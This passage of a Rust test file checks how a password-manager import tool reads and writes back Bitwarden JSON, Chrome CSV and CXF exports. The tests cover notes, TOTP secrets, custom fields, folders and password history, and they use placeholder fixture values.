    let carol = &parsed.logins[2];
    assert_eq!(
        (carol.created, carol.updated),
        (
            Some(Timestamp(1_546_300_800_000)),
            Some(Timestamp(1_772_323_200_000))
        )
    );
    // Its notes, TOTP secret and group below the root are kept; nothing is left unstored.
    assert_eq!(carol.notes, "Kontonummer im Safe");
    assert_eq!(
        carol.extras.totp.expose(),
        "otpauth://totp/Bank?secret=JBSWY3DPEHPK3PXP"
    );
    assert_eq!(carol.extras.folder, "Banking");
    let folders: Vec<&str> = parsed
        .logins
        .iter()
        .map(|l| l.extras.folder.as_str())
        .collect();
    assert_eq!(folders, ["Archiv/Papierkorb", "Trash", "Banking"]);
    assert!(parsed.unstored.is_empty(), "{:?}", parsed.unstored);
}

#[test]
fn bitwarden_notes_totp_fields_folders_and_favourites_are_kept_and_written_back() {
    let parsed = parse(Format::BitwardenJson, "bitwarden_unstored.json");
    assert_eq!(parsed.logins.len(), 3);
    let a = &parsed.logins[0];
    assert_eq!(a.notes, "a note");
    assert_eq!(
        a.extras.totp.expose(),
        "otpauth://totp/A?secret=JBSWY3DPEHPK3PXP"
    );
    assert_eq!(a.extras.folder, "Work");
    assert!(a.extras.favorite);
    let fields: Vec<_> = (a.extras.fields.iter())
        .map(|f| (f.name.as_str(), f.value.expose(), f.hidden))
        .collect();
    assert_eq!(fields, [("PIN", "1234", true), ("Colour", "blue", false)]);
    // Only the linked field (it names another field, with no value) is not kept.
    assert_eq!(parsed.unstored, [(Unstored::CustomFields, a.line)]);
    let bob = &parsed.logins[2];
    assert!(bob.extras == LoginExtras::default() && bob.notes.is_empty());
    // Written back in Bitwarden's shape and read again: the same.
    let mut written = Vec::new();
    write(Format::BitwardenJson, &parsed.logins, &[], &mut written).unwrap();
    let json: serde_json::Value = serde_json::from_slice(&written).unwrap();
    assert_eq!(
        json["folders"],
        serde_json::json!([{"id": "credwell-folder-1", "name": "Work"}])
    );
    assert_eq!(json["items"][0]["folderId"], "credwell-folder-1");
    assert_eq!(json["items"][0]["fields"][0]["type"], 1);
    assert!(json["items"][2]["folderId"].is_null() && json["items"][2].get("fields").is_none());
    let back = read(Format::BitwardenJson, written.as_slice()).unwrap();
    for (x, y) in parsed.logins.iter().zip(&back.logins) {
        assert_eq!((&x.notes, &x.extras), (&y.notes, &y.extras));
    }
    // Chrome's note column is kept as the notes, with nothing left unstored.
    let chrome = parse(Format::ChromeCsv, "chrome.csv");
    assert!(chrome.unstored.is_empty());
    assert!(chrome.logins.iter().any(|l| !l.notes.is_empty()));
}

#[test]
fn bitwarden_password_history_is_read_oldest_first_and_written_back() {
    let parsed = parse(Format::BitwardenJson, "bitwarden_unstored.json");
    let history = |l: &ImportedLogin| -> Vec<(String, String)> {
        l.history
            .iter()
            .map(|h| (h.password.expose().to_owned(), h.replaced.to_iso8601()))
            .collect()
    };
    let want = [
        ("pw-2019".to_owned(), "2019-06-01T00:00:00.000Z".to_owned()),
        ("pw-2025".to_owned(), "2025-01-01T00:00:00.000Z".to_owned()),
        // No date: the item's last revision.
        (
            "pw-undated".to_owned(),
            "2026-03-01T00:00:00.000Z".to_owned(),
        ),
    ];
    // Both origins of the item carry it; the other item has none.
    assert_eq!(history(&parsed.logins[0]), want);
    assert_eq!(history(&parsed.logins[1]), want);
    assert!(parsed.logins[2].history.is_empty());
    let mut written = Vec::new();
    write(Format::BitwardenJson, &parsed.logins, &[], &mut written).unwrap();
    let back = read(Format::BitwardenJson, written.as_slice()).unwrap();
    assert_eq!(history(&back.logins[0]), want);
    let json: serde_json::Value = serde_json::from_slice(&written).unwrap();
    // Written most recent first, as Bitwarden does.
    assert_eq!(
        json["items"][0]["passwordHistory"][0]["password"],
        "pw-undated"
    );
    assert_eq!(json["items"][2]["passwordHistory"], serde_json::Value::Null);
}

/// The one-pass typed reading and the item-by-item one (which a header's negative timestamp
/// forces) read the same file the same way.
#[test]
fn cxf_typed_and_item_by_item_readings_agree() {
    let text = String::from_utf8(fixture("cxf.json")).unwrap();
    let typed = read(Format::Cxf, text.as_bytes()).unwrap();
    let forced = text.replace("\"timestamp\": 1735689600", "\"timestamp\": -1");
    assert_ne!(forced, text);
    let by_item = read(Format::Cxf, forced.as_bytes()).unwrap();
    assert_eq!(summary(&by_item), summary(&typed));
    assert_eq!(passkey_fields(&by_item), passkey_fields(&typed));
    assert_eq!(skipped(&by_item), skipped(&typed));
    assert_eq!(by_item.unstored, typed.unstored);
    let created = |p: &Parsed| {
        p.logins
            .iter()
            .map(|l| (l.created, l.updated))
            .collect::<Vec<_>>()
    };
    assert_eq!(created(&by_item), created(&typed));
}

mod cxf_extras;
mod kdbx;

mod onepux;
mod proton_json;
